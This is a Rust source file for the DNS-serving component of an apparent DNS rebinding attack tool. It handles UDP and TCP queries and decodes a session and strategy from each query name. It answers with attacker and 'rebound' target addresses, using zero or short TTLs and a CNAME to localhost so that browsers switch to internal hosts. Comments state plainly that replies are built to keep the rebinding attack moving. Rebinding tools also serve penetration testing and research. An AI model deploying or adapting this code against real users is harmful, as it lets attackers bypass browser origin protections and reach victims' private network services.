//! The authoritative-style DNS side: receive queries over UDP and TCP, run
//! them through the parser, the session store and the selected strategy, and
//! answer with whatever addresses keep the rebinding attack moving.
use std::io::Cursor;
use std::sync::Arc;
use std::time::Instant;

use log::{debug, info, warn};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};

use crate::config::AppConfig;
use crate::error::RebindResult;
use crate::format_buffer;
use crate::network_order::ToFromNetworkOrder;
use crate::qname::{parse_qname, AnswerIp, RebindQuery};
use crate::rfc1035::{
    DNSPacketHeader, DNSQuestion, DnsReply, DomainName, OpCode, PacketType, QType,
    ResourceRecord, ResponseCode, MAX_DNS_PACKET_SIZE,
};
use crate::session::SessionStore;
use crate::strategy::RebindStrategy;

// TTLs per answer shape: a lone A record must not be cached at all, while
// multi-A and CNAME answers get a few seconds so the browser keeps the pair.
const SINGLE_A_TTL: u32 = 0;
const MULTI_A_TTL: u32 = 10;
const CNAME_TTL: u32 = 10;

pub struct DnsResponder {
    config: Arc<AppConfig>,
    store: Arc<SessionStore>,
}

impl DnsResponder {
    pub fn new(config: Arc<AppConfig>, store: Arc<SessionStore>) -> Self {
        DnsResponder { config, store }
    }

    /// Datagram loop: one handler task per inbound query.
    pub async fn run_udp(self: Arc<Self>, socket: UdpSocket) -> RebindResult<()> {
        info!("dns responder listening on udp {}", socket.local_addr()?);
        let socket = Arc::new(socket);

        loop {
            let mut packet = vec![0u8; MAX_DNS_PACKET_SIZE];
            let (received, peer) = socket.recv_from(&mut packet).await?;
            packet.truncate(received);

            let responder = Arc::clone(&self);
            let socket = Arc::clone(&socket);
            tokio::spawn(async move {
                match responder.handle_query(&packet) {
                    Ok(Some(reply)) => {
                        if let Err(e) = socket.send_to(&reply, peer).await {
                            warn!("sending reply to {} failed: {:?}", peer, e);
                        }
                    }
                    Ok(None) => debug!("dropped unparseable datagram from {}", peer),
                    Err(e) => warn!("query from {} failed: {:?}", peer, e),
                }
            });
        }
    }

    /// Stream loop, for resolvers that retry over TCP.
    pub async fn run_tcp(self: Arc<Self>, listener: TcpListener) -> RebindResult<()> {
        info!("dns responder listening on tcp {}", listener.local_addr()?);

        loop {
            let (stream, peer) = listener.accept().await?;
            let responder = Arc::clone(&self);
            tokio::spawn(async move {
                if let Err(e) = responder.serve_tcp_query(stream).await {
                    debug!("tcp dns client {}: {:?}", peer, e);
                }
            });
        }
    }

    // One query per connection, length-prefixed per RFC1035 4.2.2.
    async fn serve_tcp_query(&self, mut stream: TcpStream) -> RebindResult<()> {
        let length = stream.read_u16().await? as usize;
        let mut packet = vec![0u8; length];
        stream.read_exact(&mut packet).await?;

        if let Some(reply) = self.handle_query(&packet)? {
            stream.write_u16(reply.len() as u16).await?;
            stream.write_all(&reply).await?;
        }
        Ok(())
    }

    /// Turn one query packet into reply bytes. `None` means the packet could
    /// not even carry a header and is silently dropped; everything else gets
    /// a reply, because the attack depends on the browser resolving
    /// *something*.
    pub fn handle_query(&self, packet: &[u8]) -> RebindResult<Option<Vec<u8>>> {
        let now = Instant::now();
        debug!("query buffer: {}", format_buffer!("X", packet));
        debug!("query buffer: [{}]", format_buffer!("C", packet));

        let mut cursor = Cursor::new(packet);
        let mut header = DNSPacketHeader::default();
        if header.from_network_bytes(&mut cursor).is_err() {
            return Ok(None);
        }

        let mut reply = DnsReply::for_query(&header);

        // anything but a standard query gets the empty reply
        if header.flags.packet_type != PacketType::Query || header.flags.op_code != OpCode::Query
        {
            debug!("non-query packet (opcode {:?})", header.flags.op_code);
            return Ok(Some(serialize(&reply)?));
        }

        for _ in 0..header.qd_count {
            let mut question = DNSQuestion::default();
            if question.from_network_bytes(&mut cursor).is_err() {
                // can't echo what we can't parse; close the reply here
                reply.header.flags.response_code = ResponseCode::FormErr;
                return Ok(Some(serialize(&reply)?));
            }

            let name = question.name.clone();
            let is_a_question = question.r#type == QType::A;
            reply.push_question(question);

            // only A questions drive the state machine
            if !is_a_question {
                continue;
            }

            for record in self.rebind_answers(&name, now) {
                reply.push_answer(record);
            }
        }

        Ok(Some(serialize(&reply)?))
    }

    // Steps for one A question: parse the name, upsert the session, pick and
    // run the strategy, then move the timestamps. Timestamps move *after*
    // the strategy so delta-based strategies compare against the previous
    // query.
    fn rebind_answers<'a>(&self, name: &DomainName<'a>, now: Instant) -> Vec<ResourceRecord<'a>> {
        let qname = name.to_string();

        let (query, strategy) = match parse_qname(qname.trim_end_matches('.')) {
            Ok(query) => {
                let strategy = RebindStrategy::from_name(&query.strategy)
                    .unwrap_or(self.config.default_strategy);
                (query, strategy)
            }
            Err(e) => {
                // not a rebinding name; answer with the configured attacker
                // address under a throwaway session
                debug!("qname <{}> did not decode ({:?}), using defaults", qname, e);
                let query = RebindQuery {
                    response_ip: self.config.response_ip,
                    rebound_ip: self.config.rebound_ip,
                    session: String::new(),
                    strategy: String::new(),
                    cache_flush: false,
                };
                (query, RebindStrategy::First)
            }
        };

        self.store.upsert(
            &query.session,
            query.response_ip,
            query.rebound_ip,
            query.cache_flush,
            self.config.rebound_timeout,
        );

        let answers = strategy.answers(&self.store, &query.session);
        debug!(
            "session <{}> strategy {} answers {:?}",
            query.session,
            strategy.name(),
            answers
        );

        self.store.touch(&query.session, now);

        build_records(name, &answers)
    }
}

// Map strategy answers onto records: a lone localhost becomes a CNAME, a
// lone address an uncacheable A, and a pair two short-lived A records.
fn build_records<'a>(name: &DomainName<'a>, answers: &[AnswerIp]) -> Vec<ResourceRecord<'a>> {
    match answers {
        [AnswerIp::Localhost] => {
            let target = DomainName {
                labels: vec!["localhost"],
            };
            vec![ResourceRecord::cname(name.clone(), CNAME_TTL, target)]
        }
        [AnswerIp::V4(address)] => {
            vec![ResourceRecord::a(name.clone(), SINGLE_A_TTL, *address)]
        }
        pair => pair
            .iter()
            .filter_map(|answer| match answer {
                AnswerIp::V4(address) => {
                    Some(ResourceRecord::a(name.clone(), MULTI_A_TTL, *address))
                }
                // localhost has no A form; it only makes sense alone
                AnswerIp::Localhost => {
                    debug!("skipping localhost in a multi-answer set");
                    None
                }
            })
            .collect(),
    }
}

// No record emitted here ever carries a compression pointer, so replies are
// compression-free by construction.
fn serialize(reply: &DnsReply) -> RebindResult<Vec<u8>> {
    let mut buffer: Vec<u8> = Vec::new();
    reply.to_network_bytes(&mut buffer)?;
    Ok(buffer)
}
